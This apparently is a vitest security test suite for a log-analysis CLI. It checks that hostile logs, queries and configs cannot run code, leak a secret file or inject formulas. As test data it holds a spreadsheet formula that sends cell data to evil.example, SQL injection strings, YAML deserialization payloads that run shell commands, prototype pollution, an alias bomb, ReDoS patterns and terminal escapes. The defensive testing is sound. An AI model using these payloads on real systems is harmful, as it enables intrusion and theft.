import { spawn } from 'node:child_process'
import { cpSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { DuckDBInstance } from '@duckdb/node-api'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { commandLine } from '../src/cli/command-line.js'
import { storyText } from '../src/cli/explain.js'
import { jsonText } from '../src/cli/json.js'
import { explain } from '../src/explain.js'
import { OperatorError } from '../src/model/errors.js'
import { printable, printableLine } from '../src/model/printable.js'
import { query } from '../src/query.js'
import { QuestionBox } from '../src/store/question-box.js'
import { readZip } from '../src/workbook/zip-reader.js'
import { buildLogs } from './support/build-logs.js'
import { type Finished, finished, repositoryPath, run, runPrinted } from './support/command.js'
import { parseCsv, readCsvObjects } from './support/csv.js'
import { hostile, hostileNames, transactionId, writeHostileLogs } from './support/hostile-logs.js'
import { hostileStatements, readingStatements } from './support/hostile-statements.js'
import { makeFolder } from './support/temporary-folder.js'

const cwd = makeFolder()
/** What the command printed on the hostile logs. */
let analysed: Finished
/** What it leaves where all is well. */
let usualFiles: readonly string[] = []

beforeAll(async () => {
  writeHostileLogs(join(cwd, 'logs'))
  writeFileSync(join(cwd, 'secret.txt'), 'a secret of this machine')
  buildLogs(repositoryPath('test/cases/long-form/input'), join(cwd, 'usual logs'), {})
  expect(await run(['usual logs', '-q', '-o', 'usual'], { cwd })).toMatchObject({ code: 0 })
  usualFiles = readdirSync(join(cwd, 'usual'))
  analysed = await run(['logs'], { cwd })
}, 60_000)

afterAll(() => rmSync(cwd, { recursive: true }))

/** Characters of a text that do more to a terminal than show themselves; line ends and tabs are layout. */
function controlsIn(text: string): string[] {
  return text.replaceAll('\r\n', '\n').match(/(?![\n\t])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/gu) ?? []
}

function isNumber(text: string): boolean {
  return /^-?\d+(\.\d+)?$/.test(text)
}

/** Whether a spreadsheet could run a part of a cell, whatever it takes for the end of one. */
function isFormula(text: string): boolean {
  return text
    .split(/[;\t\r\n]"*/)
    .some((part, at) => /^[=+@＝＋－＠-]/.test(part) && !(at === 0 && isNumber(text)))
}

/** Cells of CSV that are not harmless. Throws where it is not CSV as RFC 4180 has it. */
function harmfulCells(csv: string): string[] {
  const rows = parseCsv(csv)
  const widths = new Set(rows.map((row) => row.length))
  expect(widths.size, 'rows of one width').toBe(1)
  return rows
    .flat()
    .map(({ text }) => text)
    .filter((text) => isFormula(text) || /^[\t\r\n]/.test(text) || controlsIn(text).length > 0)
}

function tableNames(): string[] {
  return readdirSync(join(cwd, 'output')).flatMap(
    (name) => /^calo_analysis_(\w+)\.csv$/.exec(name)?.[1] ?? [],
  )
}

/** What the page of a report has that it may not: elements and attributes that load, run or send something. */
function foreignTo(page: string): string[] {
  const own = page.replace(/<(script|style)>[\s\S]*?<\/\1>/, '').replace(/<(script|style)>[\s\S]*?<\/\1>/, '')
  const tags = [...own.matchAll(/<\/?([\w!-]+)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>|</g)]
  return tags.flatMap(([tag, name, attributes = '']) => {
    const isUnsafe =
      name === undefined || /^(?:script|style|iframe|object|embed|img|image|base|form|link|use)$/i.test(name)
    const unsafe = [...attributes.matchAll(/([\w:-]+)="([^"]*)"/g)].filter(
      ([, attribute = '', value = '']) =>
        /^on|^style$|^src|^srcdoc$|^action|^formaction$|^xlink/i.test(attribute) ||
        (attribute === 'href' && !value.startsWith('#')),
    )
    return isUnsafe || unsafe.length > 0 ? [tag] : []
  })
}

/** The words of our own formulas in the workbook: functions, cells, figures, and words that are not from a log. */
const ownFormula =
  /'Transactions'!|"(?:CREDIT|DEBIT|agrees|differs)"|&lt;|(?:COUNTIF|SUMIFS|IF|AND|ABS|MAX)\(|\$?[A-Z]{1,2}\$?\d+|\d+(?:\.\d+)?(?:E-\d+)?|[-(),:=*]/g

/** What a script prints. */
function shell(script: string): Promise<string> {
  return finished(spawn('bash', ['--norc', '-c', script], { cwd })).then(({ stdout }) => stdout)
}

/** A hostile text as the results have it. */
function storedText(text: string): string {
  return printable(text.replace('\ud83d', '\\ud83d'))
}

/** What is in the working folder of all commands here. */
function workingFolder(): string[] {
  return readdirSync(cwd).sort()
}

describe('logs that are hostile in every field and name', () => {
  test('are analysed like any others', () => {
    expect(analysed).toMatchObject({ code: 0, stderr: '' })
    expect(controlsIn(analysed.stdout)).toEqual([])
    const { summary } = JSON.parse(readFileSync(join(cwd, 'output/manifest.json'), 'utf8'))
    expect(summary).toMatchObject({
      transactions: hostile.length + hostileNames.length,
      files: { found: hostile.length + hostileNames.length, damaged: 0 },
    })
  })

  test('leave the usual files, and nothing else anywhere', () => {
    expect(readdirSync(join(cwd, 'output')).sort()).toEqual([...usualFiles].sort())
    expect(workingFolder()).toEqual(['logs', 'output', 'secret.txt', 'usual', 'usual logs'])
  })

  test('make CSV files that every reader takes apart alike, and no spreadsheet runs', () => {
    expect(tableNames().length).toBeGreaterThan(20)
    for (const name of tableNames()) {
      const csv = readFileSync(join(cwd, `output/calo_analysis_${name}.csv`), 'utf8')
      expect(harmfulCells(csv), name).toEqual([])
    }
  })

  test('keep every text, as far as it can be shown', () => {
    const rows = readCsvObjects(readFileSync(join(cwd, 'output/calo_analysis_transactions.csv'), 'utf8'))
    const shown = new Set(rows.map(({ userId = '' }) => userId.replace(/^'(?=[\t\n=+@＝-])/, '')))
    const expected = hostile.map(storedText)
    expect(expected.filter((text) => !shown.has(text.replaceAll(/([;\t\n]"*)(?==)/g, "$1'")))).toEqual([])
    const files = new Set(rows.map(({ log_file: file = '' }) => file))
    expect(files.size).toBe(rows.length)
  })

  test('change no table, and add none', async () => {
    const usual = await query({ output: join(cwd, 'usual'), sql: 'show tables' })
    expect(await query({ output: join(cwd, 'output'), sql: 'show tables' })).toEqual(usual)
  })

  test('are harmless in what query prints of every table', async () => {
    const inWords = ['transactions', 'all_findings', 'data_quality', 'currency_totals']
    const asked = tableNames().flatMap((name) =>
      (inWords.includes(name) ? ['table', 'csv', 'json'] : ['csv']).map((format) => ({ name, format })),
    )
    for (const { name, format } of asked) {
      const { code, stdout, stderr } = await run(['query', `from ${name}`, '--format', format], { cwd })
      expect([code, stderr]).toEqual([0, ''])
      expect(controlsIn(stdout), `${name} as ${format}`).toEqual([])
      if (format === 'csv') expect(harmfulCells(stdout), name).toEqual([])
      if (format === 'json') expect(Array.isArray(JSON.parse(stdout))).toBe(true)
    }
  }, 120_000)

  test('are harmless where they name the columns of a query', async () => {
    const sql = 'pivot transactions on userId in (select userId from transactions) using count(*) group by 1'
    const pivoted = `from (select userId, 1 as n from transactions) pivot (sum(n) for userId in (${hostile
      .filter((text) => !text.includes('\0') && text.isWellFormed())
      .map((text) => `'${printable(text).replaceAll("'", "''")}'`)
      .join(', ')}))`
    expect((await run(['query', sql], { cwd })).code).toBe(2)
    for (const format of ['table', 'csv', 'json']) {
      const { code, stdout } = await run(['query', pivoted, '--format', format], { cwd })
      expect(code).toBe(0)
      expect(controlsIn(stdout), format).toEqual([])
      if (format === 'csv') expect(harmfulCells(stdout)).toEqual([])
    }
  })

  test('are harmless in what explain tells, as text and as JSON', async () => {
    const output = join(cwd, 'output')
    const ids = hostile.flatMap((text, at) => [transactionId(at), storedText(text)])
    let told = 0
    for (const id of ids) {
      const story = await explain({ id, output, logs: true }).catch((error: unknown) => {
        if (error instanceof OperatorError) return undefined
        throw error
      })
      if (story === undefined) continue
      told += 1
      expect(controlsIn(await storyText(story, 'results')), id).toEqual([])
      const json = jsonText(story)
      expect(controlsIn(json), id).toEqual([])
      expect(JSON.parse(json)).toEqual(JSON.parse(JSON.stringify(story)))
    }
    expect(told).toBeGreaterThan(ids.length * 0.9)
  }, 60_000)

  test('name commands that a shell reads as they are meant', async () => {
    const before = workingFolder()
    const meant: string[][] = []
    const commands: string[] = []
    for (const [at] of hostile.entries()) {
      const story = await explain({ id: transactionId(at), output: join(cwd, 'output') })
      if (story.kind !== 'transaction') continue
      for (const finding of story.findings) {
        meant.push([...finding.next])
        commands.push(commandLine(finding.next, undefined))
      }
    }
    const script = commands.map((command) => `${command}; printf '\\1'`).join('\n')
    const told = await shell(`calo-analyzer() { printf '%s\\0' "$@"; }; ${script}`)
    const read = told.split('\u0001').map((words) => words.split('\0').slice(0, -1))
    const hidden = (words: readonly string[]) => words.map(printableLine)
    expect(read.slice(0, -1).map((words) => words.filter((word) => word !== '--'))).toEqual(meant.map(hidden))
    expect(meant.length).toBeGreaterThan(hostile.length)
    expect(workingFolder()).toEqual(before)
  }, 60_000)

  test.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")'],
    ['--output=stolen'],
    [`'; drop table transactions; --`],
  ])('name commands that find what they are about: %s', async (id) => {
    const { code, stdout } = await runPrinted(commandLine(['explain', id], undefined), { cwd })
    expect(code).toBe(0)
    expect(stdout).toContain(id)
    const next = /→ (calo-analyzer .*)/.exec(stdout)?.[1] ?? ''
    expect(await runPrinted(next, { cwd })).toMatchObject({ code: 0, stderr: '' })
  })

  test('make reports in which they are text: CSV files, a workbook, a page', async () => {
    const output = join(cwd, 'reported')
    cpSync(join(cwd, 'output'), output, { recursive: true })
    const reported = await run(['report', 'reported'], { cwd })
    expect(reported).toMatchObject({ code: 0, stderr: '' })
    const names = readdirSync(output)
    expect(controlsIn(reported.stdout)).toEqual([])
    expect(names.length).toBeGreaterThan(usualFiles.length + 3)
    for (const name of names.filter((each) => each.endsWith('.csv'))) {
      expect(harmfulCells(readFileSync(join(output, name), 'utf8')), name).toEqual([])
    }
    const page = readFileSync(join(output, 'calo_analysis.html'), 'utf8')
    expect(foreignTo(page)).toEqual([])
    expect(controlsIn(page)).toEqual([])
    for (const { name, content } of readZip(readFileSync(join(output, 'calo_analysis.xlsx')))) {
      const formulas = [...content.toString('utf8').matchAll(/<f>([^<]*)<\/f>/g)].map(
        ([, formula = '']) => formula,
      )
      const foreign = formulas.filter((formula) => formula.replace(ownFormula, '') !== '')
      expect(foreign, name).toEqual([])
      if (name.endsWith('.rels')) expect(content.toString('utf8')).not.toContain('External')
    }
    rmSync(output, { recursive: true })
  }, 60_000)

  test('are harmless in statements and in the work list', async () => {
    const ways = [[], ['--csv'], ['--html'], ['--json']]
    const users = hostile.map(storedText).filter((user) => user === user.trim())
    const asked = users.map((user, at) => ['statement', ...(ways[at % 4] ?? []), '--', user])
    await inTurn([...asked, ['findings', 'list'], ['findings', 'list', '--json']], async (args) => {
      const { code, stdout, stderr } = await run(args, { cwd })
      expect([code, stderr], args.join(' ')).toEqual([0, ''])
      expect(controlsIn(stdout), args.join(' ')).toEqual([])
      if (args[1] === '--csv') expect(harmfulCells(stdout), args.join(' ')).toEqual([])
      if (args[1] === '--html') expect(foreignTo(stdout), args.join(' ')).toEqual([])
    })
  }, 120_000)

  test('are harmless in messages', async () => {
    const texts = [...hostileNames, ...hostile].filter((text) => !text.includes('\0') && text.isWellFormed())
    const ways: readonly ((text: string) => readonly string[])[] = [
      (text) => ['--', `nowhere ${text}`],
      (text) => ['explain', '--', text],
      (text) => ['query', `select '${text}`],
      (text) => ['logs', `--config=nowhere ${text}`],
      (text) => ['config', 'check', '--', `nowhere ${text}`],
      (text) => ['logs', '--time-zone', `x${text}`],
      (text) => ['query', 'select 1', `--output=nowhere ${text}`],
      (text) => [`--x${text}`],
    ]
    const asked = [
      ...texts.map((text, at) => ways[at % ways.length]?.(text) ?? []),
      ...ways.map((way) => way(texts.join(' '))),
    ]
    for (const args of asked) {
      const { code, stdout, stderr } = await run(args, { cwd })
      expect([0, 2], stderr).toContain(code)
      expect(controlsIn(stdout + stderr)).toEqual([])
      expect(stderr).not.toMatch(/^calo-analyzer: all is well/m)
    }
  }, 120_000)
})

describe('a query', () => {
  const secret = 'a secret of this machine'
  const asked = hostileStatements.map((statement) =>
    statement.replaceAll('FILE', join(cwd, 'secret.txt')).replaceAll('NEW', join(cwd, 'stolen')),
  )

  test('reads and writes no file, loads nothing, changes nothing, and says so', async () => {
    const database = readFileSync(join(cwd, 'output/calo.duckdb'))
    const before = [workingFolder(), readdirSync(join(cwd, 'output'))]
    const environment = { CALO_ANALYZER_PII_SECRET: secret, HOME: cwd }
    await inTurn(asked, async (statement) => {
      const { code, stdout, stderr } = await run(['query', statement], { cwd, environment })
      expect({ code, stdout }, statement).toEqual({ code: 2, stdout: '' })
      expect(stderr, statement).toMatch(/^calo-analyzer: the query failed: \S/)
      expect(stderr, statement).not.toContain(secret)
      expect(stderr, statement).not.toContain('    at ')
    })
    expect([workingFolder(), readdirSync(join(cwd, 'output'))]).toEqual(before)
    expect(readFileSync(join(cwd, 'output/calo.duckdb')).equals(database)).toBe(true)
    expect(readFileSync(join(cwd, 'secret.txt'), 'utf8')).toBe(secret)
  }, 180_000)

  test('is held to the same in the dashboard', async () => {
    const box = await QuestionBox.open(join(cwd, 'output/calo.duckdb'), 512)
    const signal = AbortSignal.timeout(60_000)
    for (const sql of asked) {
      const rows = async () => {
        const { batches } = await box.ask({ sql, signal })
        let count = 0
        for await (const batch of batches) count += batch.length
        return count
      }
      await expect(rows(), sql).rejects.toThrow()
    }
    box.close()
    expect(workingFolder()).not.toContain('stolen')
  }, 60_000)

  test('may be any statement that reads', async () => {
    await inTurn(readingStatements, async (statement) => {
      expect(await run(['query', statement], { cwd }), statement).toMatchObject({ code: 0, stderr: '' })
    })
  }, 60_000)

  test('takes values of parameters for values', async () => {
    const sql = 'select $1 as text, (select count(*) from transactions where id = $1) as n'
    for (const text of hostile.filter((text) => text.isWellFormed())) {
      const { rows } = await query({ sql, output: join(cwd, 'output'), parameters: [text] })
      expect(rows).toEqual([[text, '0']])
    }
  })

  test.each([
    [
      'more memory than there is for it',
      `select list(repeat('x', 100)) from range(50000000)`,
      'it needs more than 1 GB of memory',
    ],
    ['a result of too many rows', 'from range(1000000000)', 'more than 5,000,000 values'],
    [
      'a result of too long texts',
      `select repeat('x', 1000000) from range(1000)`,
      'or 64,000,000 characters',
    ],
    [
      'a table nobody can draw',
      `select repeat('x', 10000) from range(3000)`,
      'the result is too large for a table',
    ],
  ])(
    'that wants %s ends in a message',
    async (_name, sql, words) => {
      const { code, stdout, stderr } = await run(['query', sql], { cwd })
      expect([code, stdout]).toEqual([2, ''])
      expect(stderr).toContain(words)
      expect(workingFolder()).not.toContain('stolen')
    },
    120_000,
  )

  test('asks a database of somebody else, and views in it, no more than its own', async () => {
    const folder = join(cwd, 'foreign')
    mkdirSync(folder)
    await writeForeignDatabase(join(folder, 'calo.duckdb'), join(cwd, 'secret.txt'))
    for (const args of [
      ['query', 'from transactions'],
      ['explain', '01HPY1TAKE0000000000000001'],
      ['findings', 'list'],
    ]) {
      const { code, stdout, stderr } = await run([...args, '-o', 'foreign'], { cwd })
      expect([2, 1], stderr).toContain(code)
      expect(stdout + stderr).not.toContain(secret)
    }
    const { code, stderr } = await run(['usual logs', '-q', '-o', 'foreign'], { cwd })
    expect(code, stderr).toBe(2)
    expect(stderr).toContain('the work list in foreign/calo.duckdb cannot be taken over')
    for (const name of readdirSync(folder)) {
      expect(readFileSync(join(folder, name)).includes(secret), name).toBe(false)
    }
    rmSync(folder, { recursive: true })
  })
})

/** Results as somebody may hand them out whose views read a file of the machine they are looked at on. */
async function writeForeignDatabase(path: string, file: string): Promise<void> {
  const instance = await DuckDBInstance.create(path)
  const connection = await instance.connect()
  const texts = [
    'finding_id',
    'severity',
    'finding',
    'rule',
    'user_id',
    'currency',
    'id',
    'unit',
    'explanation',
  ]
  const stolen = `(select content from read_text('${file}'))`
  await connection.run(`
    create table privacy as select 'drop' as pii, false as hash_user_ids, null::varchar as key_check;
    create table queue_records (user_id varchar);
    create view transactions as from read_text('${file}');
    create view finding_notes as select ${stolen} as finding_id, ${stolen} as note;
    create view work_list as select ${texts.map((name) => `${stolen} as ${name}`).join(', ')}, 'open' as status`)
  connection.closeSync()
  instance.closeSync()
}

/** Does something with each, a few at a time. */
async function inTurn<Each>(all: readonly Each[], act: (each: Each) => Promise<void>): Promise<void> {
  const waiting = [...all]
  const worker = async () => {
    for (let each = waiting.shift(); each !== undefined; each = waiting.shift()) await act(each)
  }
  await Promise.all([worker(), worker(), worker()])
}

describe('a configuration', () => {
  const bomb = [...'abcdefghijklmnop'].map((name, at, names) => {
    const before = names[at - 1]
    return `${name}: &${name} [${Array.from({ length: 9 }, () => (before === undefined ? 'ha' : `*${before}`)).join(', ')}]`
  })

  const refused: readonly (readonly [string, string])[] = [
    ['a function', "time_zone: !!js/function \"function () { require('fs').writeFileSync('stolen', '') }\""],
    ['a class of Python', 'time_zone: !!python/object/apply:os.system ["touch stolen"]'],
    ['a class of Ruby', 'time_zone: !ruby/object:Gem::Installer {i: x}'],
    ['an include', 'time_zone: !include secret.txt'],
    ['a file by its name', 'time_zone: file://secret.txt'],
    ['a command', 'time_zone: $(touch stolen)'],
    ['a variable', `time_zone: \${env:HOME}`],
    ['a bomb of aliases', bomb.join('\n')],
    ['a merge of itself', 'a: &a {<<: *a}'],
    ['a prototype', '__proto__: {polluted: yes}'],
    [
      'a prototype in JSON',
      '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}',
    ],
    ['a prototype deeper', 'thresholds: {__proto__: {default: 1}}\ncurrencies: {constructor: {decimals: 3}}'],
    ['a statement', `currencies: {"'; drop table transactions; --": {decimals: 3}}`],
    ['a name of a table', `output: {csv: ["transactions; copy (select 1) to 'stolen'"]}`],
    ['a path as a table', 'output: {csv: [../../stolen]}'],
    ['a check', `checks: {"funnel_foots; drop": off}`],
    ['a pattern that takes for ever', 'categories: {rules: [{category: a, pattern: "(?=(a+)+$)b"}]}'],
    [
      'a pattern that is too large',
      'categories: {rules: [{category: a, pattern: "((a{1,99}){1,99}){1,99}"}]}',
    ],
    ['control characters', 'time_zone: "\\e[2J\\e]0;owned\\a\\u202e\\0"\n"\\e[31mkey\\nline": 1'],
    ['control characters as they are', 'time_zone: \u001b[2J\u009b31m\u202e'],
    ['a name with a line break', '"time_zone\\ncalo-analyzer: all is well": 1'],
  ]

  test('ends in a message where it holds more than settings', async () => {
    await inTurn(refused, async ([name, text]) => {
      const file = `usual/${name}.yaml`
      writeFileSync(join(cwd, file), text)
      for (const args of [
        ['config', 'check', file],
        ['logs', '-o', 'none', '--config', file],
      ]) {
        const { code, stdout, stderr } = await run(args, { cwd })
        expect(code, name).toBe(2)
        expect(controlsIn(stdout + stderr), name).toEqual([])
        expect(stdout + stderr).not.toMatch(
          /^calo-analyzer: all is well|a secret of this machine|this is a bug/m,
        )
      }
    })
    expect(workingFolder()).not.toContain('stolen')
    expect(workingFolder()).not.toContain('none')
  }, 120_000)

  test('whose texts are hostile changes nothing but what it says', async () => {
    const texts = hostile
      .filter((text) => text.isWellFormed() && text.trim() !== '')
      .map((text) => JSON.stringify(text))
    const some = texts.slice(0, 20).join(', ')
    const lines = [
      'categories:\n  rules:',
      ...texts.map((text, at) => `    - {category: hostile_${at}, contains: ${text}}`),
      `messages: {rules: [${texts.map((text) => `{kind: skipped, starts_with: ${text}}`).join(', ')}]}`,
      `fields: {transaction: {deliveryId: [deliveryId, ${texts[0] ?? ''}]}}`,
      `words: {action: {DELIVERY_DEDUCTION: [${some}]}, currency: {OMR: [${some}]}}`,
    ]
    writeFileSync(join(cwd, 'usual/hostile.yaml'), lines.join('\n'))
    const args = ['logs', '--config', 'usual/hostile.yaml', '-o', 'configured']
    for (const way of [['config', 'check', 'usual/hostile.yaml'], args, [...args, '--json', '--full']]) {
      const { code, stdout, stderr } = await run(way, { cwd })
      expect([code, stderr]).toEqual([0, ''])
      expect(controlsIn(stdout)).toEqual([])
    }
    for (const name of ['category_stats', 'transactions', 'data_quality']) {
      const csv = readFileSync(join(cwd, `configured/calo_analysis_${name}.csv`), 'utf8')
      expect(harmfulCells(csv), name).toEqual([])
    }
    rmSync(join(cwd, 'configured'), { recursive: true })
    expect(workingFolder()).not.toContain('stolen')
  })
})
